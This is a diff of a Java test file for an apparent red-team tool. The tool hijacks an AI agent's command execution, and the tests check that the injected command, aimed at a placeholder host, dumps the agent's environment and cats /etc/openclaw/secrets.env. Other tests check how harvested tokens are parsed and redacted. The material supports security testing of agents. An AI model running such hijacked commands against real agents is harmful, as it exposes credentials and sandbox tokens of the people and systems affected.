@@ -1,6 +1,6 @@
 package dev.gjallarhorn.attack.agent;
 
-import dev.gjallarhorn.attack.injection.ExecReport;
+import dev.gjallarhorn.attack.injection.HijackedExec;
 import dev.gjallarhorn.attack.syncgate.GatePreview;
 
 import static org.assertj.core.api.Assertions.assertThat;
@@ -42,7 +42,7 @@ class RedactThenCutTest {
         String toolResult = "GJHX-BEGIN\nuid=1000 user=node\nhost=4f1c2b3a9d8e\nenvnames=HOME PATH OPENCLAW_SANDBOX_TOKEN\n"
                 + "secretsfile=unreadable\nvault=unreadable\ncanary=blocked\nGJHX-END\nGJHX-ENV\nHOME=/home/node\n"
                 + "OPENCLAW_SANDBOX_TOKEN=" + sandboxToken + "\nPIN_PASS=4417\nPATH=/usr/bin:/bin\nGJHX-SECRETS-FILE\n";
-        assertThat(ExecReport.facts(toolResult, redactor)).containsEntry("host", "4f1c2b3a9d8e").containsEntry("user", "node");
+        assertThat(HijackedExec.facts(toolResult, redactor)).containsEntry("host", "4f1c2b3a9d8e").containsEntry("user", "node");
         assertThat(redactor.scrub(toolResult)).doesNotContain(sandboxToken).doesNotContain("4417")
                 .contains("[REDACTED:OPENCLAW_SANDBOX_TOKEN]").contains("[REDACTED:PIN_PASS]").contains("HOME=/home/node");
         String flat = "x".repeat(200) + toolResult.substring(toolResult.indexOf("OPENCLAW_SANDBOX_TOKEN="));
@@ -56,14 +56,14 @@ class RedactThenCutTest {
         Redactor redactor = new Redactor();
         String toolResult = "GJHX-BEGIN\nhost=vm\nGJHX-END\nGJHX-ENV\nLANG=C.UTF-8\nGJHX-SECRETS-FILE\n# Source: x\n"
                 + "TELEGRAM_BOT_TOKEN=\"123456789:AAHcanaryBotTokenOfSecretsEnv0123456\"\nexport RELAY=relay-canary-9Q\nPIN=12\n";
-        assertThat(ExecReport.learn(toolResult, redactor)).isEqualTo(2);
+        assertThat(HijackedExec.learn(toolResult, redactor)).isEqualTo(2);
         assertThat(redactor.scrub("relay-canary-9Q and 123456789:AAHcanaryBotTokenOfSecretsEnv0123456 pin 12"))
                 .isEqualTo("[REDACTED:RELAY] and [REDACTED:TELEGRAM_BOT_TOKEN] pin 12");
     }
 
     @Test
     void theHijackedExecDumpsItsWholeEnvironmentAndTheSecretsFileBehindMarkers() {
-        String command = ExecReport.command("192.0.2.1", 443, "gjh-abcd-agent-exec");
+        String command = HijackedExec.command("192.0.2.1", 443, "gjh-abcd-agent-exec");
         assertThat(command).contains("echo GJHX-END; echo GJHX-ENV; env; echo GJHX-SECRETS-FILE; cat /etc/openclaw/secrets.env")
                 .doesNotContain("grep -E '^[A-Z_]*(TOKEN|KEY|SECRET|PASSWORD)");
     }
@@ -71,7 +71,7 @@ class RedactThenCutTest {
     @Test
     void aToolResultWithoutTheDumpTeachesNothing() {
         Redactor redactor = new Redactor();
-        assertThat(ExecReport.learn("exec denied: GH_TOKEN=ghp_notADumpAtAll0123456789abcdef", redactor)).isZero();
+        assertThat(HijackedExec.learn("exec denied: GH_TOKEN=ghp_notADumpAtAll0123456789abcdef", redactor)).isZero();
         assertThat(redactor.knowsAnything()).isFalse();
     }
 }
